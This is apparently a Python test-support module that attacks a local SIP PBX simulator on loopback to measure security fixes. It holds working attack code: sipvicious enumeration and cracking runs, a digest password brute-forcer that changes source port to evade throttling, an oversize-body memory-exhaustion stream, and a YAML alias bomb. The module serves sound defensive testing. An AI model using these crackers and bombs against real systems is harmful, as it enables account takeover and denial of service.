"""The attacker's side of ``tests/sim/test_attack_tools.py`` (issue 10 item 8), and the
measurements behind the before/after table of ``docs/security.md``.

Everything here talks to a ``smartpbx-harness serve`` subprocess through its public surfaces
only (SIP over UDP/TCP, HTTP, the CLI), on loopback, and every loop is bounded in count and
time. ``python -m tests.sim.attack_kit --help`` prints the figures the tests assert on.

- ``run_svwar``/``run_svcrack``: the sipvicious tools as a person runs them.
- ``rotating_crack``: the cracker of finding 10.3 — a new UDP socket (a new source port) per
  guess, which a throttle keyed on IP:port never sees twice.
- ``honest_register``: a phone that knows its password, from a loopback address of its own.
- ``mutations``: a deterministic mutation fuzz corpus (bit flips, truncations, huge headers,
  bad Content-Length, garbage).
- ``stream_oversize_body``: finding 10.4(a) — ``Content-Length: 9999999999`` then a stream.
- ``alias_bomb``: finding 10.4(b) — a few hundred bytes of YAML that expand to 9^9 nodes.
- ``rss``/``peak_rss``/``watch_child``: memory of a process from ``/proc/<pid>/status`` (VmRSS,
  VmHWM), and a child run under a watchdog that kills it past a bound.
"""

from __future__ import annotations

import argparse
import os
import random
import re
import secrets
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import httpx

from harness.pytest_plugin.sim import SAMPLE_GUIDE, SimulatorHandle, start_simulator
from harness.sip.digest import answer_challenge, choose_challenge
from harness.sip.message import Response, parse_message
from harness.sip.syntax import SipParseError

BIN = Path(sys.executable).parent
SVWAR = BIN / "sipvicious_svwar"
SVCRACK = BIN / "sipvicious_svcrack"
MIB = 1024 * 1024
TRACEBACK = "Traceback (most recent call last)"


# --- memory -----------------------------------------------------------------------------------


def _status_bytes(pid: int, name: str) -> int:
    status = Path(f"/proc/{pid}/status").read_text(encoding="utf-8")
    match = re.search(rf"^{name}:\s+(\d+) kB$", status, re.MULTILINE)
    if match is None:  # a zombie has no memory lines
        raise ProcessLookupError(f"process {pid} has no {name} (exited?)")
    return int(match.group(1)) * 1024


def rss(pid: int) -> int:
    """Resident set size of ``pid`` in bytes (``VmRSS`` of /proc/<pid>/status, proc(5))."""
    return _status_bytes(pid, "VmRSS")


def peak_rss(pid: int) -> int:
    """The peak resident set size of ``pid``'s address space so far (``VmHWM``, proc(5))."""
    return _status_bytes(pid, "VmHWM")


@dataclass(frozen=True, kw_only=True)
class ChildRun:
    """How a watched child process ended."""

    returncode: int | None  # None: killed by the watchdog
    peak_rss: int  # bytes: the last VmHWM read before it exited
    elapsed: float  # seconds
    output: str
    killed_because: str | None = None


def watch_child(
    command: Sequence[str], *, rss_limit: int, timeout: float, cwd: Path | None = None
) -> ChildRun:
    """Run ``command``; kill it once its RSS passes ``rss_limit`` bytes or after ``timeout``
    seconds (the watchdog keeps a memory bomb from taking the shared machine down).

    The peak is ``VmHWM``, polled every 10 ms (monotonic, so only the last few ms before the
    exit can be missed). Not ``wait4``'s ``ru_maxrss``: Linux folds the forking process's
    high-water mark into the child's at exec, so it would report pytest's own size."""
    started = time.monotonic()
    with subprocess.Popen(  # noqa: S603 (our own CLI)
        list(command), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, cwd=cwd
    ) as process:
        assert process.stdout is not None
        stream = process.stdout
        chunks: list[bytes] = []
        reader = threading.Thread(target=lambda: chunks.append(stream.read()))
        reader.start()
        killed_because: str | None = None
        peak = 0
        while True:
            pid, status = os.waitpid(process.pid, os.WNOHANG)
            if pid:
                break
            try:
                now_rss = rss(process.pid)
                peak = max(peak, peak_rss(process.pid))
            except (ProcessLookupError, FileNotFoundError):
                now_rss = 0
            if now_rss > rss_limit:
                killed_because = f"RSS {now_rss / MIB:.0f} MiB > {rss_limit / MIB:.0f} MiB"
            elif time.monotonic() - started > timeout:
                killed_because = f"still running after {timeout:.0f} s"
            if killed_because is not None:
                os.kill(process.pid, signal.SIGKILL)
                pid, status = os.waitpid(process.pid, 0)
                break
            time.sleep(0.01)
        # waitpid reaped it: tell Popen, so that it neither waits again nor warns.
        process.returncode = os.waitstatus_to_exitcode(status)
        reader.join(timeout=10)
    return ChildRun(
        returncode=None if killed_because else process.returncode,
        peak_rss=peak,
        elapsed=time.monotonic() - started,
        output=b"".join(chunks).decode(errors="replace"),
        killed_because=killed_because,
    )


# --- raw SIP ----------------------------------------------------------------------------------


def free_port(kind: int = socket.SOCK_DGRAM, host: str = "127.0.0.1") -> int:
    with socket.socket(socket.AF_INET, kind) as probe:
        probe.bind((host, 0))
        port: int = probe.getsockname()[1]
        return port


def phone_request(
    method: str = "REGISTER",
    *,
    user: str,
    domain: str,
    local: tuple[str, int],
    call_id: str,
    cseq: int,
    transport: str = "UDP",
    authorization: str | None = None,
    expires: int = 60,
) -> bytes:
    """A REGISTER (RFC 3261 §10.2) or another request to the server itself (OPTIONS, §11) as a
    phone sends it, with ``rport`` (RFC 3581)."""
    host, port = local
    lines = [
        f"{method} sip:{domain} SIP/2.0",
        f"Via: SIP/2.0/{transport} {host}:{port};branch=z9hG4bK{secrets.token_hex(8)};rport",
        "Max-Forwards: 70",
        f"From: <sip:{user}@{domain}>;tag={secrets.token_hex(4)}",
        f"To: <sip:{user}@{domain}>",
        f"Call-ID: {call_id}",
        f"CSeq: {cseq} {method}",
        f"Contact: <sip:{user}@{host}:{port}>",
        f"Expires: {expires}",
        *([f"Authorization: {authorization}"] if authorization else []),
        "Content-Length: 0",
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


class UdpClient:
    """One UDP socket on a loopback address: send bytes, read SIP responses (bounded)."""

    def __init__(self, target: tuple[str, int], *, bind: str = "127.0.0.1") -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((bind, 0))
        self.target = target
        self.local: tuple[str, int] = self.sock.getsockname()

    def send(self, data: bytes) -> None:
        self.sock.sendto(data, self.target)

    def response(self, call_id: str, timeout: float) -> Response | None:
        """The next final response of ``call_id`` (1xx and other datagrams are skipped)."""
        return self._read_until(call_id, timeout)[1]

    def probe(self, *, user: str, domain: str, timeout: float) -> tuple[int, bool]:
        """Send an OPTIONS and read until it is answered: how many other datagrams came first,
        and whether it was answered. The server handles one source's datagrams in order, so
        an answered probe means everything sent before it has been handled."""
        call_id = f"{secrets.token_hex(8)}@probe"
        self.send(
            phone_request(
                "OPTIONS", user=user, domain=domain, local=self.local, call_id=call_id, cseq=1
            )
        )
        others, answer = self._read_until(call_id, timeout)
        return others, answer is not None

    def _read_until(self, call_id: str, timeout: float) -> tuple[int, Response | None]:
        """Read datagrams until a final response of ``call_id`` or ``timeout`` seconds: how
        many other datagrams came first, and that response (None when none came)."""
        others = 0
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(65535)
            except TimeoutError:
                break
            try:
                message = parse_message(data)
            except SipParseError:
                message = None
            if (
                isinstance(message, Response)
                and message.status >= 200
                and message.headers.get("Call-ID") == call_id
            ):
                return others, message
            others += 1
        return others, None

    def close(self) -> None:
        self.sock.close()

    def __enter__(self) -> UdpClient:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


def register_once(
    client: UdpClient, *, user: str, domain: str, password: str, timeout: float = 5.0
) -> Response | None:
    """REGISTER, answer the 401's strongest challenge with ``password``: the final answer
    (the 401 itself, or a 503/403 block, when that is what came back first)."""
    call_id = f"{secrets.token_hex(8)}@attack"
    client.send(
        phone_request(user=user, domain=domain, local=client.local, call_id=call_id, cseq=1)
    )
    first = client.response(call_id, timeout)
    if first is None or first.status != 401:
        return first
    challenge = choose_challenge(first.headers.get_all("WWW-Authenticate"))
    authorization = answer_challenge(
        challenge, method="REGISTER", uri=f"sip:{domain}", username=user, password=password
    )
    client.send(
        phone_request(
            user=user,
            domain=domain,
            local=client.local,
            call_id=call_id,
            cseq=2,
            authorization=authorization,
        )
    )
    return client.response(call_id, timeout)


def honest_register(
    target: tuple[str, int], *, user: str, domain: str, password: str, bind: str, timeout: float
) -> list[int]:
    """A phone with the right password, from its own loopback address: it registers, and
    like any phone retries after a 503 within ``timeout`` (RFC 3261 §21.5.4 Retry-After).
    Every final status it saw, the last one deciding."""
    seen: list[int] = []
    deadline = time.monotonic() + timeout
    with UdpClient(target, bind=bind) as client:
        while (left := deadline - time.monotonic()) > 0:
            answer = register_once(
                client, user=user, domain=domain, password=password, timeout=left
            )
            if answer is None:
                break
            seen.append(answer.status)
            if answer.status != 503:
                break
            retry = int(answer.headers.get("Retry-After") or "1")
            if retry > deadline - time.monotonic():
                break
            time.sleep(retry)  # what the server asked for: a phone waits as told
    return seen


@dataclass(frozen=True, kw_only=True)
class CrackResult:
    """What a cracker achieved: where it found the password (1-based guess), if it did."""

    guesses: int  # guesses answered (credentials sent and judged)
    found_at: int | None
    blocked_at: int | None  # guess at which a 503/403 (or silence) first answered
    statuses: Counter[int] = field(default_factory=Counter)
    elapsed: float = 0.0


def rotating_crack(
    target: tuple[str, int],
    *,
    user: str,
    domain: str,
    passwords: Sequence[str],
    timeout: float,
    bind: str = "127.0.0.1",
) -> CrackResult:
    """Finding 10.3's cracker: every guess from a NEW UDP socket (a new source port), so a
    throttle keyed on IP:port sees each guess as a first failure. Stops at the password, at
    the first refusal (anything but 401), or after ``timeout`` seconds."""
    started = time.monotonic()
    statuses: Counter[int] = Counter()
    guesses = 0
    for number, password in enumerate(passwords, start=1):
        left = timeout - (time.monotonic() - started)
        if left <= 0:
            break
        with UdpClient(target, bind=bind) as client:
            answer = register_once(
                client, user=user, domain=domain, password=password, timeout=min(left, 2.0)
            )
        status = 0 if answer is None else answer.status
        statuses[status] += 1
        if status == 200:
            return CrackResult(
                guesses=number, found_at=number, blocked_at=None, statuses=statuses,
                elapsed=time.monotonic() - started,
            )  # fmt: skip
        if status != 401:
            return CrackResult(
                guesses=guesses, found_at=None, blocked_at=number, statuses=statuses,
                elapsed=time.monotonic() - started,
            )  # fmt: skip
        guesses = number
    return CrackResult(
        guesses=guesses, found_at=None, blocked_at=None, statuses=statuses,
        elapsed=time.monotonic() - started,
    )  # fmt: skip


def word_list(right: str, *, position: int) -> list[str]:
    """``position - 1`` wrong guesses, then ``right`` (the cracker's word list)."""
    return [f"guess{n:04d}x" for n in range(1, position)] + [right]


# --- sipvicious -------------------------------------------------------------------------------


def run_svwar(
    *, port: int, method: str, extension: str, workdir: Path, timeout: float = 30.0
) -> str:
    """svwar comparing ONE name with the random unknown user it probes first.

    svwar takes the answer to a random user as "bad user" and reports every name answered
    otherwise; on a name answered *alike* it stops its scan (an answer it files under
    "unknown response"), so a dictionary of several names would only ever test the first.
    One run per name tests each one. ``--force``: scan even though an unknown user is
    challenged (svwar's default is to give up at once, which would prove nothing).
    """
    dictionary = workdir / f"svwar-{method}-{extension}.txt"
    dictionary.write_text(extension + "\n", encoding="utf-8")
    completed = subprocess.run(  # noqa: S603 (a test dependency)
        [
            str(SVWAR),
            "--force",
            "-v",
            "-d",
            str(dictionary),
            "-m",
            method,
            "-b",
            "127.0.0.1",
            "-x",
            "127.0.0.1",
            "-P",
            str(free_port()),
            "-p",
            str(port),
            "127.0.0.1",
        ],  # fmt: skip
        capture_output=True,
        timeout=timeout,
        check=False,
    )
    return (completed.stdout + completed.stderr).decode(errors="replace")


def svwar_found(output: str, extension: str) -> bool:
    """Did svwar report ``extension`` (its table, or an "exists" line)?"""
    return (
        f"extension '{extension}' exists" in output
        or f"extension '{extension}' probably exists" in output
        or re.search(rf"^\|\s*{re.escape(extension)}\s*\|", output, re.MULTILINE) is not None
    )


@dataclass(frozen=True, kw_only=True)
class SvcrackRun:
    output: str
    statuses: list[int]  # every status line svcrack received, in order
    tried: int  # passwords it sent
    found: str | None  # the password it reported


_RECEIVED = re.compile(r"Received response: SIP/2\.0 (\d{3})")
_FOUND = re.compile(r"The password for (\S+) is (\S+)")


def run_svcrack(
    *, port: int, user: str, domain: str, dictionary: Path, timeout: float = 30.0
) -> SvcrackRun:
    """svcrack (MD5 digest only: the simulator must offer MD5) against ``user``.

    svcrack stops sending at a 503 (its "unknown response") and then waits 10 s for
    stragglers; at a 403 it goes on sending REGISTERs without credentials for as long as they
    are answered. Either way the cracking is over at the first answer that is neither a
    challenge nor a 200, so it is stopped there (its -vv log prints every status line) — or
    when it reports the password, or exits, or after ``timeout`` seconds.
    """
    command = [
        str(SVCRACK), "-vv", "-u", user, "-d", str(dictionary), "--domain", domain,
        "-x", "127.0.0.1", "-P", str(free_port()), "-p", str(port), "127.0.0.1",
    ]  # fmt: skip
    lines: list[str] = []
    done = threading.Event()
    with subprocess.Popen(  # noqa: S603 (a test dependency)
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, errors="replace"
    ) as process:
        assert process.stdout is not None
        stream = process.stdout

        def read() -> None:
            for line in stream:
                lines.append(line)
                status = _RECEIVED.search(line)
                if "The password for" in line or (
                    status is not None and int(status.group(1)) not in (100, 200, 401, 407)
                ):
                    done.set()
            done.set()

        reader = threading.Thread(target=read, daemon=True)
        reader.start()
        done.wait(timeout)
        if process.poll() is None:
            process.kill()
        process.wait(timeout=10)
        reader.join(timeout=10)
    output = "".join(lines)
    found = _FOUND.search(output)
    return SvcrackRun(
        output=output,
        statuses=[int(code) for code in _RECEIVED.findall(output)],
        tried=output.count("DEBUG:ASipOfRedWine:trying "),
        found=found.group(2) if found else None,
    )


# --- mutation fuzz ----------------------------------------------------------------------------


def _base_messages(domain: str, port: int) -> list[bytes]:
    sdp = (
        "v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
        "m=audio 40000 RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n"
    )
    head = (
        "{method} sip:{to}@{domain} SIP/2.0\r\n"
        "Via: SIP/2.0/UDP 127.0.0.1:{port};branch=z9hG4bKfuzz{n};rport\r\n"
        "Max-Forwards: 70\r\nFrom: <sip:fuzzer@{domain}>;tag=f{n}\r\nTo: <sip:{to}@{domain}>\r\n"
        "Call-ID: fuzz-{n}@attack\r\nCSeq: 1 {method}\r\nContact: <sip:fuzzer@127.0.0.1:{port}>\r\n"
    )
    messages = []
    for n, (method, to) in enumerate(
        [("REGISTER", "abcde20200"), ("INVITE", "20201"), ("OPTIONS", "20200"), ("BYE", "x")]
    ):
        body = sdp if method == "INVITE" else ""
        text = head.format(method=method, to=to, domain=domain, port=port, n=n)
        if body:
            text += "Content-Type: application/sdp\r\n"
        messages.append((text + f"Content-Length: {len(body)}\r\n\r\n" + body).encode())
    return messages


def mutations(
    seed: int, count: int, *, domain: str, port: int, huge: int = 60 * 1024
) -> Iterator[bytes]:
    """``count`` mutated SIP messages, the same for the same seed and port (random.Random).

    Operators (one or two per message): bit flips, truncation, a huge header (``huge`` bytes:
    the default 60 KiB stays under the UDP datagram limit; over TCP, pass more), a bad
    Content-Length (negative, huge, not a number, longer or shorter than the body), a header
    line without colon, NUL and non-UTF-8 bytes, the CRLFs stripped or doubled, pure garbage.
    """
    rng = random.Random(seed)
    bases = _base_messages(domain, port)

    def flip(data: bytes) -> bytes:
        out = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            i = rng.randrange(len(out))
            out[i] ^= 1 << rng.randrange(8)
        return bytes(out)

    def truncate(data: bytes) -> bytes:
        return data[: rng.randrange(1, len(data))]

    def huge_header(data: bytes) -> bytes:
        head, _, rest = data.partition(b"\r\n")
        return head + b"\r\nX-Huge: " + b"A" * huge + b"\r\n" + rest

    def bad_length(data: bytes) -> bytes:
        value = rng.choice([b"-1", b"9999999999", b"abc", b"1e3", b"", b"65536", b"5", b"0x10"])
        return re.sub(rb"Content-Length: \d+", b"Content-Length: " + value, data)

    def no_colon(data: bytes) -> bytes:
        return data.replace(b"Max-Forwards: 70", b"Max-Forwards 70", 1)

    def bad_bytes(data: bytes) -> bytes:
        i = rng.randrange(len(data))
        return data[:i] + rng.choice([b"\x00", b"\xff\xfe", b"\xc3\x28", b"\r", b"\n"]) + data[i:]

    def crlf(data: bytes) -> bytes:
        return data.replace(b"\r\n", rng.choice([b"\n", b"\r", b"\r\n\r\n", b" "]))

    def garbage(data: bytes) -> bytes:
        return rng.randbytes(rng.randint(1, 1500))

    operators = [flip, truncate, huge_header, bad_length, no_colon, bad_bytes, crlf, garbage]
    for _ in range(count):
        data = rng.choice(bases)
        for operator in rng.sample(operators, rng.choice([1, 1, 2])):
            data = operator(data) or b"\x00"
        yield data


# --- oversize TCP body ------------------------------------------------------------------------


@dataclass(frozen=True, kw_only=True)
class OversizeRun:
    sent: int  # body bytes the server accepted
    seconds: float
    rss_before: int
    rss_peak: int  # highest RSS seen while streaming (bytes)
    how_it_ended: str  # "closed by the server", "server stopped reading", "all bytes sent",
    # "time" or "memory" (the watchdog)


def stream_oversize_body(
    *,
    pid: int,
    port: int,
    domain: str,
    seconds: float,
    max_bytes: int,
    stop_growth: int,
) -> OversizeRun:
    """Finding 10.4(a): one TCP connection sends an INVITE whose Content-Length says
    9,999,999,999 bytes, then streams body bytes for ``seconds`` or ``max_bytes`` — or until
    the server closes, stops reading, or ``pid`` has grown by ``stop_growth`` bytes (the
    server already failed then; stop before it takes the machine's memory)."""
    before = rss(pid)
    peak = before
    sent = 0
    chunk = b"x" * 65536
    started = time.monotonic()
    how = "time"
    stalled = False
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        local_host, local_port = conn.getsockname()
        head = (
            f"INVITE sip:20201@{domain} SIP/2.0\r\n"
            f"Via: SIP/2.0/TCP {local_host}:{local_port};branch=z9hG4bKoversize\r\n"
            f"Max-Forwards: 70\r\nFrom: <sip:abcde20200@{domain}>;tag=o1\r\n"
            f"To: <sip:20201@{domain}>\r\nCall-ID: oversize@attack\r\nCSeq: 1 INVITE\r\n"
            f"Content-Type: application/sdp\r\nContent-Length: 9999999999\r\n\r\n"
        )
        conn.sendall(head.encode())
        conn.settimeout(0.5)
        while time.monotonic() - started < seconds and sent < max_bytes:
            try:
                conn.sendall(chunk)
            except TimeoutError:
                stalled = True  # the server's window is full: it stopped reading
            except OSError:  # reset / broken pipe: the server hung up
                how = "closed by the server"
                break
            else:
                sent += len(chunk)
            if stalled or sent % (16 * len(chunk)) == 0:
                peak = max(peak, rss(pid))
                if peak - before > stop_growth:
                    how = "memory"
                    break
        peak = max(peak, rss(pid))
    if how == "time" and sent >= max_bytes:
        how = "all bytes sent"
    elif how == "time" and stalled:
        how = "server stopped reading"
    return OversizeRun(
        sent=sent,
        seconds=time.monotonic() - started,
        rss_before=before,
        rss_peak=peak,
        how_it_ended=how,
    )


# --- YAML alias bomb --------------------------------------------------------------------------


def alias_bomb(levels: int = 9, fanout: int = 9) -> str:
    """A ご利用内容.yaml of a few hundred bytes whose aliases expand to fanout**levels
    scalars ("billion laughs" for YAML; each level repeats the previous anchor)."""
    lines = ["お客様情報:", "  ご注文内容: 新設", "  内線サーバアドレス: 01234abc.smart-pbx.jp"]
    lines.append("a0: &a0 [" + ", ".join(['"lol"'] * fanout) + "]")
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * fanout) + "]")
    lines.append(f"管理者アカウント: *a{levels - 1}")
    return "\n".join(lines) + "\n"


def write_bomb_tenant(folder: Path) -> Path:
    """A tenant folder whose ご利用内容.yaml is the alias bomb; returns the file."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "ご利用内容.yaml"
    path.write_text(alias_bomb(), encoding="utf-8")
    return path


# --- measurements for docs/security.md --------------------------------------------------------

SAMPLE_DOMAIN = "01234abc.smart-pbx.jp"


def _measure_cracks(sim: SimulatorHandle, scratch: Path) -> None:
    assert sim.sip_port is not None
    words = scratch / "words.txt"
    words.write_text("\n".join(word_list("Password", position=200)) + "\n", encoding="utf-8")
    run = run_svcrack(port=sim.sip_port, user="abcde20200", domain=SAMPLE_DOMAIN, dictionary=words)
    print(
        f"svcrack (one source port), password at guess 200: tried {run.tried}, "
        f"found {run.found!r}, answers {dict(Counter(run.statuses))}"
    )
    result = rotating_crack(
        ("127.0.0.1", sim.sip_port), user="abcde20201", domain=SAMPLE_DOMAIN,
        passwords=word_list("Password", position=200), timeout=60,
    )  # fmt: skip
    print(
        f"rotating-port cracker, password at guess 200: found at {result.found_at}, "
        f"blocked at {result.blocked_at}, answers {dict(result.statuses)}, "
        f"{result.elapsed:.2f} s"
    )


def _measure_oversize(sim: SimulatorHandle, seconds: float) -> None:
    assert sim.sip_port is not None
    run = stream_oversize_body(
        pid=sim.process.pid, port=sim.sip_port, domain=SAMPLE_DOMAIN, seconds=seconds,
        max_bytes=4096 * MIB, stop_growth=2048 * MIB,
    )  # fmt: skip
    print(
        f"oversize TCP body: {run.sent / MIB:.0f} MiB accepted in {run.seconds:.1f} s, "
        f"RSS {run.rss_before / MIB:.0f} → {run.rss_peak / MIB:.0f} MiB ({run.how_it_ended})"
    )


def _measure_check_bomb(scratch: Path, rss_limit: int, timeout: float) -> None:
    path = write_bomb_tenant(scratch / "bomb")
    run = watch_child(
        [str(BIN / "smartpbx-harness"), "check", str(path.parent)],
        rss_limit=rss_limit, timeout=timeout,
    )  # fmt: skip
    print(
        f"alias bomb ({len(path.read_bytes())} bytes) through check: exit {run.returncode}, "
        f"peak RSS {run.peak_rss / MIB:.0f} MiB, {run.elapsed:.1f} s, "
        f"killed: {run.killed_because}"
    )


def _measure_api_bomb(sim: SimulatorHandle, scratch: Path, rss_limit: int, timeout: float) -> None:
    """POST /api/tenant with the bomb; meanwhile, how long HTTP and SIP go unanswered."""
    assert sim.sip_port is not None
    path = write_bomb_tenant(scratch / "api-bomb")
    before = rss(sim.process.pid)
    answer: list[object] = []

    def post() -> None:
        try:
            answer.append(sim.load_tenant(path.parent))
        except Exception as error:  # noqa: BLE001 (reported, not raised)
            answer.append(error)

    poster = threading.Thread(target=post, daemon=True)
    started = time.monotonic()
    poster.start()
    peak, silent_since, longest_silence = before, None, 0.0
    with UdpClient(("127.0.0.1", sim.sip_port), bind="127.0.0.3") as probe:
        while poster.is_alive() and time.monotonic() - started < timeout:
            peak = max(peak, rss(sim.process.pid))
            if peak > before + rss_limit:
                break
            call_id = f"{secrets.token_hex(6)}@probe"
            probe.send(
                phone_request(
                    user="abcde20200",
                    domain=SAMPLE_DOMAIN,
                    local=probe.local,
                    call_id=call_id,
                    cseq=1,
                )  # fmt: skip
            )
            answered = probe.response(call_id, 0.25) is not None
            try:
                sim.client.get("/api/health", timeout=0.25)
            except httpx.HTTPError:
                answered = False
            now = time.monotonic()
            if answered:
                silent_since = None
            else:
                silent_since = silent_since or now
                longest_silence = max(longest_silence, now - silent_since)
    elapsed = time.monotonic() - started
    sim.kill(signal.SIGKILL)
    poster.join(timeout=10)
    outcome = "still loading" if not answer else repr(answer[0])[:160]
    print(
        f"alias bomb ({len(path.read_bytes())} bytes) through POST /api/tenant: after "
        f"{elapsed:.1f} s {outcome}; RSS {before / MIB:.0f} → {peak / MIB:.0f} MiB; "
        f"SIP+HTTP unanswered for {longest_silence:.1f} s at most"
    )


def _measure(args: argparse.Namespace) -> None:
    """Print the figures of docs/security.md's table, each against a fresh ``serve``."""
    with tempfile.TemporaryDirectory(prefix="attack-kit-") as name:
        scratch = Path(name)
        # svcrack answers MD5 challenges only (sipvicious svhelper.challengeResponse).
        md5 = ["--digest-algorithms", "MD5"]
        if "crack" in args.what:
            with start_simulator(SAMPLE_GUIDE, extra_args=md5) as sim:
                _measure_cracks(sim, scratch)
        if "oversize" in args.what:
            with start_simulator(SAMPLE_GUIDE) as sim:
                _measure_oversize(sim, args.seconds)
        if "bomb" in args.what:
            _measure_check_bomb(scratch, args.bomb_rss * MIB, args.bomb_timeout)
        if "api-bomb" in args.what:
            with start_simulator(SAMPLE_GUIDE) as sim:
                _measure_api_bomb(sim, scratch, args.bomb_rss * MIB, args.bomb_timeout)


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(
        prog="python -m tests.sim.attack_kit",
        description="Measure the attacks of issue 10 against a fresh serve on loopback "
        "(the figures of docs/security.md); nothing is asserted.",
    )
    parser.add_argument(
        "what",
        nargs="*",
        default=["crack", "oversize", "bomb", "api-bomb"],
        help="any of crack, oversize, bomb (through check), api-bomb (default: all)",
    )
    parser.add_argument("--seconds", type=float, default=3.0, help="oversize stream (default 3)")
    parser.add_argument(
        "--bomb-rss",
        type=int,
        default=1024,
        help="stop a bomb past this many MiB (check: its RSS; serve: its growth; default 1024)",
    )
    parser.add_argument(
        "--bomb-timeout", type=float, default=30.0, help="… or after this many s (default 30)"
    )
    _measure(parser.parse_args(argv))


if __name__ == "__main__":
    main()
